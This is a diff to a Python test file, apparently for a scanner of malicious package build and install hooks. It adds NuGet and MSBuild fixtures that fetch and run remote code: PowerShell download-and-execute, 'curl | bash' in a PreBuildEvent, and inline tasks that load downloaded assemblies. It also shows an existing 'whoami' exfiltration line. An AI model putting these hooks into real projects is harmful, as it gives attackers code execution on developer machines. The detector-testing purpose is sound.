@@ -39,6 +39,10 @@ def extension(script: str) -> dict[str, bytes]:
     return {"manifest.json": b'{"manifest_version": 3, "name": "Tabs"}', "background.js": script.encode()}
 
 
+def msbuild(inside: str) -> dict[str, bytes]:
+    return {"a.nuspec": b"<package/>", "build/a.targets": f"<Project>{inside}</Project>".encode()}
+
+
 def rpm(script: str) -> bytes:
     def header(tags: list[tuple[int, bytes]]) -> bytes:
         index, store = b"", io.BytesIO()
@@ -144,6 +148,27 @@ def flags():
             "bin/.thing-post-link.sh": b'#!/bin/sh\ncurl -d "$(whoami)" http://192.0.2.20/\n',
         },
     )
+    joined = b"$w = New-Object ('Net.Web' + 'Client')\n$w.DownloadFile('http://192.0.2.20/a', $d)\n"
+    yield "nuget_script--joined", {"a.nuspec": b"<package/>", "tools/net472/init.ps1": joined}
+    yield "msbuild_command--property", msbuild(
+        "<PropertyGroup><From>https://files.example/u.exe</From><Run>iwr $(From) -OutFile u.exe; start u.exe</Run>"
+        '</PropertyGroup><Target Name="x"><Exec Command="powershell -c $(Run)" /></Target>'
+    )
+    yield "msbuild_command--fetched", msbuild(
+        '<Target Name="x"><DownloadFile SourceUrl="https://cdn.example/agent" DestinationFolder="o" />'
+        '<Exec Command="chmod +x o/agent &amp;&amp; o/agent" /></Target>'
+    )
+    yield "msbuild_command--event", {
+        "Tool/Tool.csproj": b"<Project><PreBuildEvent>curl http://192.0.2.20/a | bash</PreBuildEvent></Project>"
+    }
+    yield "msbuild_inline_task--load", msbuild(
+        '<UsingTask TaskName="W" TaskFactory="RoslynCodeTaskFactory"><Task><Code><![CDATA['
+        'var raw = new HttpClient().GetByteArrayAsync("http://192.0.2.20/a").Result; Assembly.Load(raw);'
+        "]]></Code></Task></UsingTask>"
+    )
+    source = b'var raw = new HttpClient().GetByteArrayAsync("http://192.0.2.20/a").Result; Assembly.Load(raw);'
+    outside = '<UsingTask TaskFactory="CodeTaskFactory"><Task><Code Source="$(MSBuildThisFileDirectory)w.cs" /></Task></UsingTask>'
+    yield "msbuild_inline_task--source", {**msbuild(outside), "build/w.cs": source}
     yield "nuget_script--iex", {"a.nuspec": b"<package/>", "tools/install.ps1": b"iwr http://192.0.2.20/a | iex\n"}
     yield (
         "composer_plugin--type",
@@ -163,6 +188,7 @@ def flags():
 
 
 def passes():
+    yield "msbuild-items", msbuild('<ItemGroup><None Include="a.txt" CopyToOutputDirectory="Always" /></ItemGroup>')
     yield "husky", npm({"prepare": "husky", "test": "mocha", "build": "tsc"})
     yield (
         "native-build",
